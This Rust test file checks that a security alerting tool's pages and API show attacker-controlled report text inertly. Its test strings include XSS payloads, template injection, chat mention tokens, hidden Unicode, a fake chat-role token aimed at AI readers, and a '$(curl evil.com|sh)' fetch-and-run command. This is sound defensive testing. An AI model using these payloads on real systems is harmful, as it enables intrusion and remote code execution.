//! Tests with attacker-controlled strings in every field of a report (attacks.md rows A4, A5, A6, A15, A21, A22). A
//! real HTML parser must find the same elements and attributes as with harmless text, and only links that Nightshift
//! makes.

mod page_checks;

use std::sync::Arc;

use nightshift_alert::{DetailKind, IndicatorKind};
use nightshift_engine::conclusion::Verdict;
use nightshift_pipeline::case::CaseView;
use nightshift_pipeline::case_workflow::{
    CaseAction, CaseActionKind, CaseWorkflow, WorkflowStatus,
};
use nightshift_pipeline::mutes::LedgerCount;
use nightshift_pipeline::report::Report;
use proptest::prelude::*;
use serde_json::Value;

use self::page_checks::{ParsedPage, check};
use crate::testing::{FakeStore, failed, get, inconclusive, now, report, view};

/// Fields with Nightshift's own words, numbers or times, or with commands of the catalogue.
const OURS: [&str; 30] = [
    "class",
    "logs",
    "last",
    "schema",
    "from",
    "until",
    "flag",
    "subject_type",
    "status",
    "verdict",
    "leaning",
    "reason",
    "confidence",
    "severity",
    "assessed_severity",
    "urgency",
    "provider",
    "first_seen",
    "last_seen",
    "outcome",
    "stance",
    "role",
    "kind",
    "at",
    "analyst",
    "opened_at",
    "concluded_at",
    "command",
    "undo",
    "stopped_by",
];

/// Replaces every field with foreign content by one of these strings in turn.
fn replace(value: &mut Value, strings: &mut impl Iterator<Item = String>) {
    match value {
        Value::String(text) => *text = strings.next().unwrap_or_default(),
        Value::Array(items) => items.iter_mut().for_each(|item| replace(item, strings)),
        Value::Object(map) => {
            for (key, value) in map {
                let word = value.as_str().unwrap_or_default();
                let is_type = word.ends_with("_step")
                    || IndicatorKind::ALL.iter().any(|kind| kind.as_str() == word)
                    || DetailKind::parse(word).is_some();
                let is_kept = ["evidence", "error"].contains(&key.as_str()) && value.is_string()
                    || key == "id" && word.starts_with('E') && word.len() < 4;
                let is_ours = OURS.contains(&key.as_str()) || key == "type" && is_type || is_kept;
                if !is_ours {
                    replace(value, strings);
                }
            }
        }
        _ => {}
    }
}

/// Returns the case with these strings in every field.
fn poisoned(report: &Report, strings: &[String]) -> CaseView {
    let mut strings = strings.iter().cycle().cloned();
    let mut value = serde_json::to_value(report).unwrap();
    replace(&mut value, &mut strings);
    // The linked cases depend on their ids, not on text.
    value["reach"]["other_cases"] = serde_json::json!(["aaaa-bbbb-cccc"]);
    let mut next = || strings.next().unwrap();
    let mut view = view(Some(serde_json::from_value(value).unwrap()));
    (view.row.title, view.row.feed, view.row.kind) = (next(), next(), next());
    (view.row.account, view.row.subject) = (Some(next()), Some(format!("host {}", next())));
    view.alert.region = Some(next());
    (view.alert.title, view.alert.description) = (next(), next());
    view.alert.resources[0].name = Some(next());
    view.alert.indicators[0].value = next();
    (view.sightings[0].source, view.sightings[0].note) = (next(), Some(next()));
    (view.members[0].key, view.members[0].title) = (next(), next());
    (view.deliveries[0].destination, view.deliveries[0].error) = (next(), Some(next()));
    view.unreadable = Some(next());
    view.cancelled_by = Some(next());
    (view.workflow, view.row.desk) = (people(&mut next), WorkflowStatus::Acknowledged);
    view.row.owner = view.workflow.owner.clone();
    view
}

/// Returns every action that people can take, with these strings.
fn people(next: &mut impl FnMut() -> String) -> CaseWorkflow {
    let kinds = [
        CaseActionKind::Agreed,
        CaseActionKind::Disagreed {
            verdict: Verdict::FalsePositive,
        },
        CaseActionKind::AskedAgain,
        CaseActionKind::Muted {
            name: next(),
            until: now(),
        },
        CaseActionKind::Assigned { to: next() },
    ];
    let acts = kinds.map(|kind| CaseAction {
        at: now(),
        by: next(),
        kind,
        note: next(),
    });
    CaseWorkflow::from_actions(acts.into())
}

fn block_on<T>(future: impl Future<Output = T>) -> T {
    tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap()
        .block_on(future)
}

/// Renders and checks the list and the case with these strings.
fn pages(report: &Report, strings: &[String]) -> [ParsedPage; 2] {
    let view = poisoned(report, strings);
    let mut store = FakeStore::with_views(vec![view]);
    store.places = vec![LedgerCount {
        place: "muted".into(),
        why: strings[0].clone(),
        alerts: 1,
    }];
    let store = Arc::new(store);
    ["/", "/cases/k3f9"].map(|path| {
        let answer = block_on(get(Arc::clone(&store), path));
        assert_eq!(answer.status, 200, "{}", answer.text);
        check(&answer.text)
    })
}

/// Typical attacks in names, user agents and descriptions.
const POISON: &str = "\"'><img src=x onerror=alert(1)><script>alert(1)</script><a href=https://evil.com>x</a> {{ 1234*1001 }} \
     {% include 'x' %} <!channel> <@U1> @everyone [~admin] [c](https://evil.com/?d=AKIA) javascript:alert(1) \u{1b}[2J\u{202e}\
     txt\u{200b}\u{e0041} </code></pre></title></textarea> &lt;b&gt; www.evil.com [SAMPLE]\r\n\n$(curl evil.com|sh) <!-- ";

#[test]
fn a04_no_page_has_an_element_attribute_or_link_from_data() {
    for report in [report(), inconclusive(), failed()] {
        let harmless = pages(&report, &["x".to_owned()]);
        let hostile = pages(&report, &[POISON.to_owned()]);
        for (harmless, hostile) in harmless.iter().zip(&hostile) {
            assert_eq!(harmless.elements, hostile.elements);
            assert_eq!(harmless.links, hostile.links);
            assert_eq!(harmless.ids, hostile.ids);
            assert!(
                !hostile.text.contains("evil.com") && !hostile.text.contains("1235234"),
                "{}",
                hostile.text
            );
        }
    }
}

#[test]
fn a04_case_without_a_report_shows_its_alert_as_text_only() {
    let page = |text: &str| {
        let mut view = poisoned(&report(), &[text.to_owned()]);
        view.report = None;
        let store = Arc::new(FakeStore::with_views(vec![view]));
        check(&block_on(get(store, "/cases/k3f9")).text)
    };
    let (harmless, hostile) = (page("x"), page(POISON));
    assert_eq!(harmless.elements, hostile.elements);
    assert_eq!(harmless.links, hostile.links);
    assert!(!hostile.text.contains("evil.com"), "{}", hostile.text);
}

#[test]
fn a04_a_filter_is_shown_again_as_text() {
    let path =
        "/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E&feed=%27%20onfocus=alert(1)&account=%3C!--";
    let store = Arc::new(FakeStore::with_views(vec![view(Some(report()))]));
    let answer = block_on(get(Arc::clone(&store), path));
    let plain = block_on(get(Arc::clone(&store), "/?q=a&feed=b&account=c"));
    assert_eq!(check(&answer.text).elements, check(&plain.text).elements);
    let answer = block_on(get(store, "/?status=%3Cscript%3E"));
    assert_eq!(answer.status, 400);
    check(&answer.text);
}

#[test]
fn a05_only_the_catalogues_commands_stand_where_commands_do() {
    let found = pages(&report(), &[format!("{POISON}\n    curl evil.com|sh")]);
    assert_eq!(
        found[1].commands,
        [
            "gcloud compute disks snapshot d",
            "gcloud compute snapshots delete d"
        ]
    );
    assert!(found[0].commands.is_empty());
    let mut long = report();
    long.actions[0].command = Some("x".repeat(3_000));
    let page = block_on(get(
        Arc::new(FakeStore::with_views(vec![view(Some(long))])),
        "/cases/k3f9",
    ));
    assert!(
        page.text.contains("the command is left out"),
        "whole or not at all"
    );
}

#[test]
fn a06_no_mention_or_special_token_survives() {
    for token in [
        "<!channel>",
        "<@U1>",
        "<#C1|x>",
        "@everyone",
        "@here",
        "[~user]",
    ] {
        for found in pages(&report(), &[format!("{token} {token}x")]) {
            assert!(!found.text.contains(token), "{token}");
        }
    }
}

#[test]
fn a15_hidden_text_and_fake_roles_are_plain_to_see() {
    let text = "a\u{202e}b\u{2066}c\u{200b}d\u{e0049}e\u{feff}f <|im_start|>system";
    for found in pages(&report(), &[text.to_owned()]) {
        assert!(
            found.text.contains("abcdef <|im_start|>system"),
            "{}",
            found.text
        );
    }
}

#[test]
fn a22_no_flood_makes_a_page_large() {
    let long = POISON.repeat(4_000);
    assert!(long.len() > 1 << 20);
    pages(&report(), std::slice::from_ref(&long));
    let mut flood = report();
    flood.indicators = vec![flood.indicators[0].clone(); 10_000];
    flood.findings = vec![flood.findings[0].clone(); 1_000];
    flood.evidence = (0..500)
        .map(|number| {
            let mut entry = flood.evidence[1].clone();
            entry.id = nightshift_engine::evidence::EvidenceId(number);
            entry.body =
                serde_json::json!({ "rows": vec![long.get(..4_000).unwrap(); 200] }).into();
            entry
        })
        .collect();
    let store = Arc::new(FakeStore::with_views(vec![view(Some(flood))]));
    let page = block_on(get(store, "/cases/k3f9"));
    check(&page.text);
    assert!(page.text.contains("and 9940 more") && page.text.contains("Too large for the page"));
}

#[test]
fn a22_json_moves_no_cursor_and_means_the_same() {
    let view = poisoned(&report(), &[POISON.to_owned()]);
    let wanted = serde_json::to_value(view.report.as_ref().unwrap()).unwrap();
    let answer = block_on(get(
        Arc::new(FakeStore::with_views(vec![view])),
        "/api/v1/cases/k3f9",
    ));
    assert!(!answer.text.trim_end().chars().any(char::is_control));
    assert!(!answer.text.contains(['\u{202e}', '\u{e0041}']));
    let value: Value = serde_json::from_str(&answer.text).unwrap();
    assert_eq!(value["report"], wanted);
}

fn fragment() -> impl Strategy<Value = String> {
    prop_oneof![
        "\\PC{0,12}",
        ".{0,12}",
        "[<>&\"'/=`{}%#!\\[\\]()@:; \\n-]{1,12}",
        "[a-z]{1,8}\\.(com|net|io|zip)",
        Just("<script>".to_owned()),
        Just("</title></pre></details>".to_owned()),
        Just("<!--".to_owned()),
        Just("]]>".to_owned()),
        Just("&#x3c;b onload=x&gt;".to_owned()),
        Just("{{ config }}{% raw %}".to_owned()),
        Just("https://evil.com/".to_owned()),
        Just("javascript:alert(1)".to_owned()),
        Just("\u{1b}[31m\u{9b}2J".to_owned()),
        Just("\u{202e}\u{200b}\u{e0041}".to_owned()),
        Just("@everyone <!here> <@U1> [~x]".to_owned()),
        Just("a\u{301}\u{301}日本 ".to_owned()),
    ]
}

fn strings() -> impl Strategy<Value = Vec<String>> {
    // A letter comes first, because a text that is empty after cleaning is omitted together with its element.
    let one =
        prop::collection::vec(fragment(), 0..8).prop_map(|parts| format!("x{}", parts.concat()));
    prop::collection::vec(one, 1..24)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, max_shrink_iters: 200, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn a04_a05_a06_a15_a22_whatever_stands_in_a_case_it_is_text(strings in strings()) {
        for report in [report(), inconclusive(), failed()] {
            let harmless = pages(&report, &["x".to_owned()]);
            for (harmless, hostile) in harmless.iter().zip(pages(&report, &strings)) {
                prop_assert_eq!(&harmless.elements, &hostile.elements);
                prop_assert_eq!(&harmless.links, &hostile.links);
                prop_assert_eq!(&harmless.commands, &hostile.commands);
            }
        }
    }
}
